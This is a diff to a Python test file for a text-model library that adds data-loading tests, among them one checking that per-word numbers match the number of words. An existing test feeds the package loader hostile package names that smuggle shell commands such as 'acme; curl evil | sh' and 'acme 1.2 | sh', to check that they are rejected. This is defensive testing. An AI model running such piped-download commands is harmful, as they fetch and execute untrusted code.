@@ -15,8 +15,12 @@ import small
 import bertkit
 from bertkit import tasks
 from bertkit.cli.doctor import examine
-from bertkit.errors import ModelError, RecipeError
+from bertkit.data import load
+from bertkit.data.schema import Column, Finding, Schema
+from bertkit.data.table import Table
+from bertkit.errors import DataError, ModelError, RecipeError
 from bertkit.recipe.recipe import json_schema
+from bertkit.sections import DataSpec
 from bertkit.tasks import Task, get_task
 from bertkit.tasks.text_classification import TextClassification, TextClassificationOptions
 
@@ -108,10 +112,31 @@ def test_a_model_names_the_package_that_it_needs(packages: Path, tiny_encoder: P
         assert "its task 'shouting' is of the package acme-tasks, which is not installed" in missed.stderr
         assert missed.stderr.endswith("\n    pip install acme-tasks\n")
     section["task"]["name"] = "gone"
-    for package in ("acme; curl evil | sh 1.2", "-r evil 1", 7, None):
+    for package in ("acme; curl evil 1.2", "acme 1.2 | sh", "-r evil 1", 7, None):
         small.change_json(config, bertkit={**section, "package": package})
         said = small.message_of(ModelError, bertkit.load, run.folder)
         assert "damaged" in said or "pip" not in said
+
+
+def test_numbers_of_words_are_as_many_as_the_words(tmp_path: Path) -> None:
+    columns = {"tokens": Column("words", "words"), "numbers": Column("numbers", "one per word")}
+    schema = Schema(columns, [frozenset({"tokens"})], ["numbers"])
+
+    def read(*numbers: Any) -> Any:
+        rows = [{"tokens": ["a", "cat"], "numbers": each} for each in numbers]
+        return load(DataSpec(source=str(small.write_rows(tmp_path / "rows.jsonl", rows))), schema, same).rows["train"]
+
+    def same(table: Table, split: str) -> tuple[Table, list[Finding]]:
+        return table, []
+
+    assert read([1, "2.5"], [0, -1])["numbers"][:] == [[1.0, 2.5], [0.0, -1.0]]
+    for wrong, why in (
+        ([1.0], "rows.jsonl:2: 2 words, but 1 numbers"),
+        ([1.0, None], "`numbers` holds .* where a list of numbers, one per word, is expected"),
+        ("1 2", "where a list of numbers, one per word, is expected"),
+        ([1.0, "x"], "`numbers` holds 'x', where a number is expected"),
+    ):
+        small.raises(DataError, why, read, [1, 2], wrong)
 
 
 class Options(TextClassificationOptions):
